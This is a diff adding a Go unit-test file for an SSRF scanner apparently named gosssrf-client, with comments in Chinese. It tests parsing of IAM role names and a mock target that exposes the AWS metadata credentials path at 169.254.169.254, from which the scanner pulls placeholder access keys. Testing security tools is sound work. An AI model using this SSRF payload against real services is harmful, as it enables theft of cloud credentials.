@@ -0,0 +1,70 @@
+package scanner
+
+import (
+	"bytes"
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"gosssrf-client/config"
+	"gosssrf-client/detector"
+	"gosssrf-client/logging"
+	"gosssrf-client/payloads"
+)
+
+func TestExtractRoleNames(t *testing.T) {
+	tests := []struct {
+		name string
+		body string
+		want string
+	}{
+		{"单个角色", "ec2-web-role", "ec2-web-role"},
+		{"多个角色", "role-a\nrole_b\n", "role-a,role_b"},
+		{"gopher原始HTTP响应", "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nec2-role", "ec2-role"},
+		{"gopher返回404", "HTTP/1.1 404 Not Found\r\n\r\nnotfound", ""},
+		{"HTML页面", "<html>ec2-role</html>", ""},
+		{"普通文本", "page not found", ""},
+		{"空响应", "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := strings.Join(extractRoleNames(tt.body, nil), ","); got != tt.want {
+				t.Errorf("extractRoleNames = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestScanMetadataCredentials(t *testing.T) {
+	const listing = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+	// 模拟存在SSRF的目标：按 url 参数返回元数据服务的响应
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Query().Get("url") {
+		case listing:
+			w.Write([]byte("ec2-web-role\n"))
+		case listing + "ec2-web-role":
+			w.Write([]byte(`{"Code":"Success","AccessKeyId":"ASIAEXAMPLE","SecretAccessKey":"secret","Token":"token","Expiration":"2024-01-02T09:00:00Z"}`))
+		default:
+			w.Write([]byte("ok"))
+		}
+	}))
+	defer server.Close()
+
+	cfg := &config.Config{Method: http.MethodGet, Timeout: 5, ExploitMetadata: true, CloudList: []string{payloads.CloudAWS}}
+	var out bytes.Buffer
+	sm := NewScanManager(cfg, detector.NewDetector(cfg), logging.NewConsole(&out, &out), nil, nil, nil)
+	sm.scanMetadataCredentials(context.Background(), server.URL+"/?url=x", map[string]string{"url": "x"})
+
+	results := sm.Results()
+	if len(results) != 1 {
+		t.Fatalf("发现 %d 个漏洞, want 1\n%s", len(results), out.String())
+	}
+	if results[0].Payload != listing+"ec2-web-role" {
+		t.Errorf("payload = %q", results[0].Payload)
+	}
+	if creds := results[0].Credentials; len(creds) != 1 || creds[0].AccessKeyID != "ASIAEXAMPLE" {
+		t.Errorf("凭据 = %+v", creds)
+	}
+}